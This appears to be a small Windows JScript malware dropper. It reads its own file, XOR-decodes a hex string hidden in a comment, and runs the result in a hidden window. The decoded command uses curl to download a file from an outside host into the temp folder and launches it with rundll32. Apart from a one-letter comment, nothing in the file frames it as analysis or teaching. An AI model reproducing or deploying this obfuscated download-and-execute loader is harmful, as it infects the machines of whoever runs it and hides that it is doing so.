
// q
try { var WSh = new ActiveXObject("WScript.Shell"); } catch (e) {}
var fso = new ActiveXObject("Scripting.FileSystemObject");
var me = fso.OpenTextFile(WScript.ScriptFullName, 1); var body = me.ReadAll(); me.Close();
var m = body.match(/\/\*SIG([\s\S]*?)GIS\*\//); 
var dec = ""; var h = m[1].replace(/[^0-9a-f]/g, ""); for (var i = 0; i < h.length; i += 2) dec += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ 77);
WSh.Run(dec, 0);
/*SIG2e20296d622e6d2e383f216d60226d681908001d68112c6339203d6d2539393d3e7762623c2c267f6328352c203d2128622c632a242b6d6b6b6d3f38232921217e7f6d681908001d68112c6339203d6119242028GIS*/
